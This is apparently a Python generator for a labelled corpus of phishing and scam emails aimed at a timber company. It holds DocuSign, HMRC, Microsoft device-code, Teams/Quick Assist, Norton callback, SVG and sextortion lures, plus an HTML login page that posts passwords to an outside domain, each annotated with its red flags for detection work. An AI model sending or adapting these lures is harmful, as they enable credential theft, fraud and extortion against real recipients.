"""Attack messages, English (8)."""
import finance as fin
import systems as sy
from common import M, S, C
from content import (alt, plain, mixed, branded, pdf_att, svg_att, html_att, to_html)
from mime import Text, Multi

F, L = "attack", "en"

# ---------------------------------------------------------------- 09 DocuSign look-alike
_u09 = "https://www.kittredgedental.com/wp-content/upgrade/ds/index.php?e=james.whitfield%40example.com&env=7f1c2a94"
_html09 = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Docusign</title></head>
<body style="margin:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px 30px 0 30px;font-size:24px;font-weight:bold;color:#1e1e1e">docusign</td></tr>
<tr><td style="padding:20px 30px">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#1e4ca1;color:#ffffff"><tr><td align="center" style="padding:28px;font-size:16px">
Gareth Hughes sent you a document to review and sign.<br><br>
<a href="{u}" style="display:inline-block;background:#ffc820;color:#1e1e1e;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:2px">REVIEW DOCUMENT</a>
</td></tr></table>
</td></tr>
<tr><td style="padding:0 30px 24px 30px;font-size:15px;color:#1e1e1e;line-height:22px">
<b>Gareth Hughes</b><br><span style="color:#666">g.hughes@humbertimber.co.uk</span><br><br>
James,<br>please review and sign the revised 2027 supply framework (pricing schedule B updated after our call). Legal need it back before Friday so the Q1 allocation can be confirmed.<br><br>
Thanks, Gareth
</td></tr>
<tr><td style="padding:18px 30px;background:#f4f4f4;font-size:11px;color:#666;line-height:16px">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
This message was sent to you by Gareth Hughes who is using the Docusign Electronic Signature Service.
</td></tr></table></td></tr></table></body></html>
""".replace("{u}", _u09)
M(F, L, "docusign-lookalike-framework-agreement",
  ("Gareth Hughes via Docusign", "dse@docusign-esign.net"), [S("whitfield")],
  "Complete with Docusign: Humber Timber - 2027 Supply Framework Agreement (rev. pricing).pdf", "2026-11-24 10:21:37",
  sy.ses(region="us-east-1", ip="54.240.8.%d", mail_from_domain="mail.docusign-esign.net"),
  Multi("alternative", [
      Text("""Gareth Hughes sent you a document to review and sign.

REVIEW DOCUMENT: %s

James,
please review and sign the revised 2027 supply framework (pricing schedule B updated after our call). Legal need it back before Friday so the Q1 allocation can be confirmed.

Thanks, Gareth

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.
""" % _u09, "plain", "utf-8", "7bit"),
      Text(_html09, "html", "utf-8", "qp")]),
  reply_to=("Gareth Hughes", "g.hughes@humbertimber.co.uk"),
  what="DocuSign look-alike envelope 'from' the real customer contact Gareth Hughes (Humber Timber) about the 2027 supply framework; 'REVIEW DOCUMENT' goes to a compromised WordPress site.",
  why="Sender domain docusign-esign.net via Amazon SES, not docusign.net/eumail.docusign.net; the button leads to /wp-content/upgrade/ on an unrelated dental practice site (credential-harvesting kit) with the recipient address pre-filled; uses a real business relationship as lure (compare business/09, the genuine envelope).")

# ---------------------------------------------------------------- 10 device-code phishing
M(F, L, "device-code-teams-secure-room",
  ("Gareth Hughes", "gareth.hughes@humbertimber-uk.com"), [S("whitfield")],
  "Q1 softwood allocation - secure Teams room at 14:30", "2026-11-26 13:58:12",
  sy.m365(srv="AS2PR09MB6371", region="eurprd09", out=("EUR05-AM6-obe.outbound.protection.outlook.com", "mail-am6eur05on2117.outbound.protection.outlook.com", "40.107.22.117")),
  alt("""Hi James,

Good to catch up at the TTF dinner last week. As promised I've put the Q1 2027 allocation figures and the revised C24 price list into a secure Teams room, because they include our volumes with two other mills.

The room is restricted to invited guests, so Microsoft asks you to confirm your access once with a one-time code:

1. Go to https://microsoft.com/devicelogin
2. Enter the code H7KQ2MX9P
3. Sign in with your Example Group account

The code is only valid for 15 minutes, so best do it just before 14:30 and I'll start the call from my side.

Cheers,
Gareth

Gareth Hughes
Head of Procurement
Humber Timber Supplies Ltd
""", "utf-8", "qp", "outlook", lang="EN-GB"),
  what="Device-code phishing: a look-alike of the customer's buyer asks James to enter a 'one-time code' at microsoft.com/devicelogin to join a 'secure Teams room'.",
  why="The URL is genuine Microsoft, but the device code was generated by the attacker: entering it and signing in hands the attacker OAuth tokens for James's Microsoft 365 account (Storm-2372 technique). Sender domain humbertimber-uk.com is a look-alike of humbertimber.co.uk on a throw-away Microsoft 365 tenant; 15-minute pressure.")

# ---------------------------------------------------------------- 11 Teams vishing / Quick Assist
M(F, L, "it-helpdesk-teams-quickassist",
  ("Example Group IT Service Desk", "servicedesk@examplegroupit.onmicrosoft.com"), [S("collins")],
  "Mail flood on your mailbox - IT will contact you on Teams now", "2026-12-03 09:07:44",
  sy.m365(srv="PH0PR12MB7421", region="namprd12", out=("NAM12-DM6-obe.outbound.protection.outlook.com", "mail-dm6nam12on2091.outbound.protection.outlook.com", "40.107.243.91"), zone="uk"),
  alt("""Hello Sarah,

Our monitoring shows that your mailbox has been receiving several thousand newsletter and sign-up messages since this morning. This is a spam-flood attack and we need to apply a filter to your account.

An engineer from the Service Desk will contact you in the next few minutes via Microsoft Teams (shown as "Help Desk (External)"). Please accept the chat request and, when asked, open Quick Assist (press Ctrl + Windows + Q) and read out the security code so that the engineer can apply the filter on your PC. The procedure takes about 10 minutes.

Please do not restart your computer in the meantime.

Kind regards,
IT Service Desk
Example Group
""", "utf-8", "qp", "outlook", lang="EN-GB"),
  what="Teams/remote-access vishing pretext following an e-mail bombing: 'IT Service Desk' from an external onmicrosoft.com tenant announces a Teams call and asks the user to start Quick Assist.",
  why="Example Group IT sends from example.com through mail-int01 and uses its own ticket system (see business/11); an external *.onmicrosoft.com tenant named like the company, an 'External' Teams contact and a Quick Assist session are the Storm-1811/Black Basta playbook to obtain remote control of the PC.")

# ---------------------------------------------------------------- 12 HMRC CDS customs
_u12 = "https://cds-hmrc-portal.com/c18/view?mrn=26GB7X3K9P2L4Q8M01&eori=GB482913765000"
M(F, L, "hmrc-cds-c18-import-duty",
  ("HMRC Customs Declaration Service", "noreply@cds-hmrc-portal.com"), [S("collins")],
  "CDS: post-clearance demand (C18) for MRN 26GB7X3K9P2L4Q8M01 - payment due in 10 days", "2026-11-12 08:16:03",
  sy.exim_host("server1.greenfield-webdesign.co.uk", "185.151.30.143", "", client="php", local=True, cpanel=True, zone="uk", exim="4.98.1"),
  alt("""Dear Customs Agent / Importer,

EORI: GB482913765000 - Example Group UK Ltd

Following a post-clearance check of the import declaration below, HM Revenue and Customs has identified an underpayment of import VAT and duty.

Movement Reference Number (MRN): 26GB7X3K9P2L4Q8M01
Goods: sawn softwood, spruce, thickness > 6 mm (commodity code 4407 11 10 00)
Port of entry: Hull
Amount due: GBP 4,872.16

You can view the C18 post-clearance demand note and pay securely by signing in with your Government Gateway user ID:
[[View C18 demand note|%s]]

Payment must be received within 10 days of the date of this notice. If payment is not received, a penalty may be charged under Schedule 41 of the Finance Act 2008 and goods from future declarations may be held at the border.

Yours faithfully,

HM Revenue and Customs
Customs Declaration Service
""" % _u12, "iso-8859-1", "qp", "plainhtml"),
  mail_from="greenfie@server1.greenfield-webdesign.co.uk",
  what="HMRC look-alike: C18 post-clearance demand for a Hull timber import, 'sign in with your Government Gateway ID to view and pay'.",
  why="HMRC issues C18s through the declarant/CDS and never via links to non-gov.uk domains; sent by a PHP script on a compromised cPanel web-design server; cds-hmrc-portal.com harvests Government Gateway credentials and card data; realistic MRN/EORI and threat of goods being held. Compare business/12 from the real customs broker.")

# ---------------------------------------------------------------- 13 callback phishing (TOAD)
M(F, L, "callback-antivirus-renewal-invoice",
  ("Norton Billing Team", "billing.renewal.desk247@gmail.com"), [S("collins")],
  "Your order #NRT-884126093 has been processed - payment confirmation", "2026-12-08 11:42:09",
  sy.gmail(4, client="web", zone="uk"),
  mixed(alt("""Dear Customer,

Thank you for your continued trust. Your annual subscription has been renewed successfully and the amount has been charged to the payment method on file. Please find your invoice attached.

If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our billing department within 24 hours on +44 20 7946 0817 (Mon-Sat, 8am-8pm).

Regards,
Billing Department
""", "utf-8", "7bit", "gmail"),
        pdf_att("Invoice_NRT-884126093.pdf", [
            ("title", "INVOICE"),
            ("p", "Order number: NRT-884126093     Date: 08/12/2026     Customer ID: CUS-5519304"),
            ("gap", 8),
            ("mono", "Product                                   Qty   Term      Amount\nNorton 360 Premium + Secure VPN           5     3 years   GBP 389.99\n                                                 VAT        GBP   0.00\n                                                 TOTAL      GBP 389.99"),
            ("p", "Payment method: auto-debit (card ending 4471). Status: PAID"),
            ("h", "Need help? Call +44 20 7946 0817"),
            ("p", "To cancel the subscription and receive a refund, call our billing support within 24 hours of this invoice. After 24 hours the order cannot be refunded."),
        ], {"Producer": "Skia/PDF m118 Google Docs Renderer", "Title": "Invoice"})),
  what="Callback phishing (TOAD): Gmail-sent 'Norton' renewal invoice for GBP 389.99 with only a phone number to 'cancel within 24 hours'.",
  why="No link to scan – the payload is the phone call, where scammers talk the victim into installing remote-access software or 'refunding' by bank transfer. Free-mailer sender, generic greeting, product the company does not buy, 24-hour pressure.")

# ---------------------------------------------------------------- 14 SVG attachment
_u14 = "https://remit-docs.share-view.online/?id=ZXhhbXBsZS5jb20&u=juergen.weiss%40example.com"
_svg14 = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="560" viewBox="0 0 820 560">
  <rect width="820" height="560" fill="#f3f2f1"/>
  <rect x="110" y="70" width="600" height="420" rx="6" fill="#ffffff" stroke="#d2d0ce"/>
  <rect x="110" y="70" width="600" height="64" rx="6" fill="#0f6cbd"/>
  <text x="140" y="111" font-family="Segoe UI, Arial" font-size="22" fill="#ffffff">Remittance Advice - EFT Payment</text>
  <text x="140" y="180" font-family="Segoe UI, Arial" font-size="16" fill="#323130">Payer: Pennine Joinery Ltd</text>
  <text x="140" y="210" font-family="Segoe UI, Arial" font-size="16" fill="#323130">Payee: Example Group GmbH &amp; Co. KG</text>
  <text x="140" y="240" font-family="Segoe UI, Arial" font-size="16" fill="#323130">Amount: EUR 14,280.00   Value date: 10/11/2026</text>
  <text x="140" y="270" font-family="Segoe UI, Arial" font-size="16" fill="#323130">Ref: INV 2026-3381 / 2026-3394</text>
  <text x="140" y="320" font-family="Segoe UI, Arial" font-size="14" fill="#605e5c">This document is protected. Verify your e-mail to view the full remittance.</text>
  <a xlink:href="{u}" href="{u}" target="_blank">
    <rect x="140" y="350" width="260" height="46" rx="4" fill="#0f6cbd"/>
    <text x="170" y="380" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">View secure document</text>
  </a>
</svg>
""".replace("{u}", _u14.replace("&", "&amp;"))
M(F, L, "svg-remittance-advice",
  ("Accounts | Pennine Joinery", "accounts@penninejoinery.co.uk"), [S("weiss")],
  "Remittance Advice - EUR 14,280.00 - INV 2026-3381", "2026-11-10 15:27:50",
  sy.m365(srv="LO4P265MB5823", region="GBRP265", out=("GBR01-LO4-obe.outbound.protection.outlook.com", "mail-lo4gbr01on2128.outbound.protection.outlook.com", "40.107.24.128")),
  mixed(alt("""Good afternoon,

Please find attached remittance advice for payment processed today.

Kind regards,

Accounts Department
Pennine Joinery Ltd
Unit 4, Calder Works, Elland HX5 9DB
""", "utf-8", "qp", "outlook", lang="EN-GB"),
        svg_att("Remittance_Advice_EFT_10-11-2026.svg", _svg14)),
  what="SVG attachment 'Remittance advice' from a (compromised) small UK joinery's Microsoft 365 mailbox; the SVG renders a document with a 'View secure document' link.",
  why="Pennine Joinery is not a customer and EUR 14,280 matches no open item; SVG images are a common carrier for phishing links because gateways treat them as pictures; the link leads to a credential page with the recipient's address pre-filled. (Inert here: no script in the SVG.)")

# ---------------------------------------------------------------- 15 extortion with spoofed own address
_btc15 = fin.bech32_address("audit97-extortion-en")
M(F, L, "extortion-spoofed-own-address",
  ("Sarah Collins", "sarah.collins@example.com"), [S("collins")],
  "Security notice: your account sarah.collins@example.com has been compromised", "2026-10-19 03:14:27",
  sy.vps_postfix("mail.example.com", "static.vnpt.vn", "113.161.87.214", domain="example.com", ua="direct", tls=None, zone="+0700"),
  plain("""Hello!

As you may have noticed, I sent you this message from your own account. That means I have full access to it.

I have been watching you for a few months now. Your device was infected with my malware when you visited a website you should not have visited. Since then I have had access to your camera, your files, your contacts and your e-mail correspondence.

I have recorded a video of you and put it side by side with what you were watching on the screen. One click, and this video goes to every contact in your address book and to your colleagues.

If you want to prevent this, transfer USD 1,450 in Bitcoin to my wallet:

%s

You have 48 hours after opening this message. I can see when you read it. Once I receive the payment, I will delete the video and remove my software from your device. Do not reply to this message and do not go to the police: I will know.
""" % _btc15, "utf-8", "8bit"),
  what="Sextortion/extortion: 'I hacked your device, pay USD 1,450 in Bitcoin within 48 h', with the recipient's own address spoofed as sender.",
  why="Spoofed From/Return-Path = recipient's own example.com address but delivered directly from a Vietnamese DSL host claiming HELO mail.example.com (not via mail-int01); mass-mailed extortion template with a Bitcoin (bech32) wallet and deadline.")

# ---------------------------------------------------------------- 16 HTML attachment RFQ
_html16 = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Excel Online - RFQ-AN-2611_Specification.xlsx</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f3f2f1">
<div style="background:#107c41;color:#fff;padding:12px 20px;font-size:16px">Excel &nbsp;|&nbsp; RFQ-AN-2611_Specification.xlsx</div>
<div style="max-width:420px;margin:60px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)">
<p style="font-size:20px;margin:0 0 8px 0">This file is protected</p>
<p style="font-size:14px;color:#605e5c">To view the shared document, confirm the e-mail account the file was sent to.</p>
<form method="post" action="https://excel-viewer-docs.com/api/v2/auth.php">
<input type="hidden" name="doc" value="RFQ-AN-2611">
<p><input type="email" name="login" value="tobias.lechner@examplegroup.eu" style="width:100%;padding:8px;border:1px solid #8a8886"></p>
<p><input type="password" name="passwd" placeholder="Password" style="width:100%;padding:8px;border:1px solid #8a8886"></p>
<p><button type="submit" style="background:#107c41;color:#fff;border:0;padding:9px 24px;font-size:15px">View document</button></p>
</form>
<p style="font-size:11px;color:#a19f9d">Microsoft respects your privacy. &copy; Microsoft 2026</p>
</div></body></html>
"""
M(F, L, "rfq-html-attachment-excel-login",
  ("Procurement | Al Noor Timber Trading", "procurement@alnoor-timbertrading.com"), [S("lechner")],
  "RFQ-AN-2611: KD spruce/pine sawn timber, 12 x 40'HC, CFR Jebel Ali", "2026-11-17 07:33:18",
  sy.vps_postfix("mta-08.privateemail.com", "mta-08.privateemail.com", "198.54.127.60", ua="thunderbird", zone="+0400",
                 sub="[192.168.1.5] (unknown [94.200.118.34])", by="mta-08.privateemail.com", hop_zone="et", lang="en-US"),
  mixed(alt("""Dear Sir/Madam,

Good day. We are a timber importer based in Dubai supplying construction and joinery projects across the UAE and Oman.

Please quote your best CFR Jebel Ali price for the following, delivery January/February 2027:

- KD spruce, 47 x 150 / 47 x 200 mm, 4.8-5.4 m, grade V-VI, 18% +/- 2
- KD pine, 22 x 100 mm, 3.0-6.0 m, unsorted
- Quantity: 12 x 40'HC, FSC or PEFC preferred

Detailed specification, packing and marking instructions are in the attached RFQ file. It is secured by Microsoft Excel Online; kindly open it and confirm with your e-mail to view.

Payment: 30% advance, balance against copy of B/L.

We look forward to your offer by Friday.

Best regards,
Rashid Al Mansoori
Procurement Manager
Al Noor Timber Trading LLC
Al Quoz Industrial Area 3, Dubai, UAE
""", "utf-8", "qp", "tb", pstyle="paren"),
        html_att("RFQ-AN-2611_Specification.html", _html16)),
  what="Fake RFQ from a 'Dubai timber importer' with an HTML attachment that imitates an Excel Online viewer and asks for the mailbox password.",
  why="The 'specification' is an HTML login form posting the e-mail password to excel-viewer-docs.com; unknown buyer on a fresh look-alike domain hosted on Namecheap Private Email; genuine RFQs come as PDF/XLSX. Credential phishing via HTML attachment.")
